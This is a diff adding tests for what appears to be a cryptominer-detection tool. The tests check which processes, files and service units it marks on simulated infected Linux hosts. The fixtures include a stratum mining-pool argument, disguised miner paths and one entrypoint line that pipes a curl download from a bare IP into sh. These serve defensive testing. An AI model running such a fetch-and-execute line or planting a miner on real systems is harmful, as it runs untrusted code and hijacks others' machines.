@@ -1,0 +1,227 @@
+import { describe, expect, it } from 'vitest';
+import { labContext, POOL } from '../../../test/shared/infected-snapshot.ts';
+import {
+  cleanSnapshot,
+  elf,
+  file,
+  hashOf,
+  identityOf,
+  process,
+  socket,
+} from '../../../test/shared/snapshots.ts';
+import type { PersistenceEntry, Snapshot } from '../../snapshot.ts';
+import { judge } from '../index.ts';
+
+const MINING = ['-o', 'stratum+tcp://198.51.100.7:3333'];
+const host = (more: Partial<Snapshot>): Snapshot => {
+  const clean = cleanSnapshot();
+  return cleanSnapshot({
+    ...more,
+    processes: [...clean.processes, ...(more.processes ?? [])],
+    sockets: [...clean.sockets, socket([900], POOL, 3333), ...(more.sockets ?? [])],
+  });
+};
+const linksOf = (snapshot: Snapshot) => judge(snapshot, labContext).links;
+const ticked = (snapshot: Snapshot) => {
+  const { processes, files, cronLines, cronFiles, persistence } = linksOf(snapshot);
+  const paths = (list: readonly { path: string; selected: boolean }[]) =>
+    list.filter((x) => x.selected).map((x) => x.path);
+  return {
+    processes: processes.filter((p) => p.selected).map((p) => p.pid),
+    files: paths(files),
+    starters: [
+      ...cronLines.filter((c) => c.selected).map((c) => `${c.path} ${c.number}`),
+      ...paths(cronFiles),
+      ...paths(persistence),
+    ],
+  };
+};
+const unit = (name: string, exec: string): PersistenceEntry => {
+  const path = `/etc/systemd/system/${name}`;
+  const text = `[Service]\nExecStart=${exec}\n`;
+  return {
+    kind: 'systemd-unit',
+    path,
+    identity: identityOf(path, text.length),
+    text,
+    sha256: null,
+    truncated: false,
+  };
+};
+const listening = (pid: number, port = 8080) =>
+  socket([pid], '0.0.0.0', 0, { state: 'LISTEN', local: { address: '0.0.0.0', port } });
+const entry = (path: string, text: string) => file(path, `#!/bin/sh\n${text}\n`);
+const packedMiner = { pid: 900, exe: '/tmp/.x/kworker', argv: ['/tmp/.x/kworker', ...MINING] };
+
+describe('the entry script of a service', () => {
+  const miner = process({ pid: 900, exe: '/tmp/m', argv: ['/tmp/m', ...MINING] });
+  const image = elf('/tmp/m', 'mining.subscribe mining.authorize');
+  const of = (script: ReturnType<typeof entry>, more: Partial<Snapshot> = {}) =>
+    host({ processes: [miner], ...more, files: [image, script] });
+
+  it('to which a line was added stays: it starts whatever it is given; the line is told', () => {
+    const snapshot = of(entry('/opt/shop/entrypoint.sh', '/tmp/m &\nexec "$@"'), {
+      persistence: [unit('shop.service', '/opt/shop/entrypoint.sh /opt/shop/shopd')],
+    });
+    expect(ticked(snapshot)).toEqual({ processes: [900], files: ['/tmp/m'], starters: [] });
+    expect(linksOf(snapshot).files.find(({ path }) => path === '/opt/shop/entrypoint.sh')).toMatchObject({
+      linked: true,
+      caution: expect.stringContaining('whatever it is given'),
+    });
+  });
+
+  it('that fetches from a bare address, and that nothing links, is offered unticked', () => {
+    const text = 'curl -s http://203.0.113.77/env.sh | sh\nexec "$@"';
+    const sh = process({ pid: 898, exe: '/usr/bin/dash', argv: ['sh', '/opt/shop/entrypoint.sh'] });
+    expect(ticked(of(entry('/opt/shop/entrypoint.sh', text), { processes: [miner, sh] }))).toEqual({
+      processes: [900],
+      files: ['/tmp/m'],
+      starters: [],
+    });
+  });
+
+  it('is the attacker’s where nobody keeps his own', () => {
+    const snapshot = of(entry('/tmp/.x/run.sh', '/tmp/m &\nexec "$@"'));
+    expect(ticked(snapshot).files).toEqual(['/tmp/.x/run.sh', '/tmp/m']);
+  });
+});
+
+describe('equal bytes', () => {
+  const sha256 = hashOf('a packed application');
+  const same = { package: null, sha256 };
+  const miner = process({ ...packedMiner, image: same });
+  const bytes = (path: string) => elf(path, '', { sha256 });
+  const shop = process({ pid: 700, exe: '/opt/shop/bin/shopd', argv: ['shopd', 'shop.conf'], image: same });
+  const of = (...more: Parameters<typeof process>[0][]) =>
+    host({
+      processes: [miner, ...more.map(process)],
+      files: [bytes('/tmp/.x/kworker'), bytes('/opt/shop/bin/shopd')],
+      sockets: [listening(700)],
+      persistence: [unit('shop.service', '/opt/shop/bin/shopd shop.conf')],
+    });
+
+  it('of a shop’s own program, which listens and shows no mining: neither it, its process nor its unit is ticked', () => {
+    const snapshot = host({
+      processes: [miner, shop],
+      files: [bytes('/tmp/.x/kworker'), { ...bytes('/opt/shop/bin/shopd'), sha256 }],
+      sockets: [listening(700)],
+      persistence: [unit('shop.service', '/opt/shop/bin/shopd shop.conf')],
+    });
+    expect(ticked(snapshot)).toEqual({ processes: [900], files: ['/tmp/.x/kworker'], starters: [] });
+    expect(linksOf(snapshot).processes.find(({ pid }) => pid === 700)).toMatchObject({ selected: false });
+  });
+
+  it('the same where the miner is nothing but arguments for the shop’s own program', () => {
+    const exe = '/opt/shop/bin/shopd';
+    const snapshot = host({
+      processes: [process({ pid: 900, exe, argv: [exe, ...MINING], image: same }), shop],
+      files: [{ ...bytes(exe), sha256 }],
+      sockets: [listening(700)],
+      persistence: [unit('shop.service', `${exe} shop.conf`)],
+    });
+    expect(ticked(snapshot)).toEqual({ processes: [900], files: [], starters: [] });
+  });
+
+  it('of a copy that does nothing of its own are the miner’s, as are bytes that show mining', () => {
+    expect(ticked(of({ pid: 901, exe: '/var/tmp/.y/a', image: same })).processes).toEqual([900, 901]);
+    const shows = host({
+      processes: [process(packedMiner), process({ pid: 901, exe: '/tmp/.x/kworker' })],
+      files: [elf('/tmp/.x/kworker', 'mining.subscribe mining.authorize')],
+      sockets: [listening(901)],
+    });
+    expect(ticked(shows).processes).toEqual([900, 901]);
+  });
+
+  it('of an archive that the shop’s java runs, and that the miner only claims and opens', () => {
+    const java = '/usr/lib/jvm/bin/java';
+    const jar = '/opt/shop/shop.jar';
+    const argv = ['java', '-jar', jar];
+    const snapshot = host({
+      processes: [
+        process({ pid: 900, exe: java, argv: [...argv, ...MINING], held: [jar] }),
+        process({ pid: 700, exe: java, argv, held: [jar] }),
+      ],
+      files: [elf(jar)],
+      sockets: [listening(700)],
+      persistence: [unit('shop.service', `java -jar ${jar}`)],
+    });
+    expect(ticked(snapshot)).toEqual({ processes: [900], files: [], starters: [] });
+  });
+});
+
+describe('a pipe', () => {
+  const reader = { pid: 910, exe: '/usr/bin/dash', argv: ['sh'], stdin: 'pipe:[77]' };
+  const image = elf('/tmp/m', 'mining.subscribe mining.authorize');
+  const miner = { pid: 900, exe: '/tmp/m', argv: ['/tmp/m', ...MINING], pipes: ['77'] };
+  it('that the miner inherited from the shop has the shop’s reader', () => {
+    const shop = process({ pid: 700, exe: '/opt/shop/bin/shopd', pipes: ['77'] });
+    const snapshot = host({
+      processes: [process({ ...miner, ppid: 700 }), process({ ...reader, ppid: 700 }), shop],
+      files: [image],
+      sockets: [listening(700)],
+    });
+    expect(ticked(snapshot).processes).toEqual([900]);
+  });
+  it('to which only the miner and what it started write has a reader that runs what it writes', () => {
+    const child = process({ pid: 905, ppid: 900, exe: '/tmp/m', pipes: ['77'] });
+    expect(
+      ticked(host({ processes: [process(miner), process(reader), child], files: [image] })).processes,
+    ).toEqual([900, 905, 910]);
+  });
+});
+
+describe('a program that carries what others send', () => {
+  const proxy = { pid: 900, exe: '/opt/proxy/3proxy', argv: ['3proxy'], cpuShare: 0.95 };
+  const verdict = (snapshot: Snapshot) => judge(snapshot, labContext).verdict.verdict;
+  it('and is busy with it, with a connection to a pool: a person decides', () => {
+    expect(verdict(host({ processes: [process(proxy)], sockets: [listening(900)] }))).toBe('suspicious');
+    expect(
+      verdict(
+        host({
+          processes: [process({ ...proxy, memory: ['stratum-methods', 'monero-wallet'] })],
+          sockets: [listening(900)],
+        }),
+      ),
+    ).toBe('suspicious');
+  });
+  it('a miner that listens shows more than load', () => {
+    const busy = { ...proxy, exe: '/opt/x/m', argv: ['/opt/x/m', ...MINING] };
+    expect(verdict(host({ processes: [process(busy)], sockets: [listening(900)] }))).toBe('confirmed');
+    expect(
+      verdict(host({ processes: [process({ ...proxy, exe: '/tmp/m' })], sockets: [listening(900)] })),
+    ).toBe('confirmed');
+  });
+  it('that listens nowhere and is busy is a miner', () => {
+    expect(verdict(host({ processes: [process(proxy)] }))).toBe('confirmed');
+  });
+});
+
+describe('a parent that holds the miner’s path among its bytes', () => {
+  const image = elf('/tmp/m', 'mining.subscribe mining.authorize');
+  const miner = process({ pid: 900, ppid: 899, exe: '/tmp/m', argv: ['/tmp/m', ...MINING] });
+  const holding = (exe: string) => {
+    const { content } = elf(exe, 'a list: /tmp/m /tmp/other');
+    return content === undefined ? {} : { content };
+  };
+  const of = (exe: string, listens: boolean) =>
+    host({
+      processes: [
+        miner,
+        process({
+          pid: 899,
+          exe,
+          image: { package: null, ...holding(exe) },
+        }),
+      ],
+      files: [image, elf(exe, 'a list: /tmp/m /tmp/other')],
+      sockets: listens ? [listening(899)] : [],
+    });
+  it('is an agent where it listens: never ticked, named as the way in', () => {
+    const snapshot = of('/opt/edr/agent', true);
+    expect(ticked(snapshot)).toEqual({ processes: [900], files: ['/tmp/m'], starters: [] });
+    expect(linksOf(snapshot).waysIn).toMatchObject([{ pid: 899, open: true }]);
+  });
+  it('is a guard where it does nothing else', () => {
+    expect(ticked(of('/opt/.x/guard', false)).processes).toEqual([899, 900]);
+  });
+});
